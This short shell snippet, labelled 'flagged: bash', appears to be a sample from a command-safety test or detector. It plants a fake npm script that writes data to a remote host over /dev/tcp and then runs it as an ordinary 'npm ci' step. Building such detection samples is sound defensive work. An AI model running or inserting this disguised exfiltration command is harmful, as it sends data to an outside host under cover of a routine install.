# flagged: bash
mkdir bin
echo 'bash --norc -c "echo stolen > /dev/tcp/$RG_TCP_HOST/$RG_TCP_PORT"' > bin/npm
sh bin/npm ci
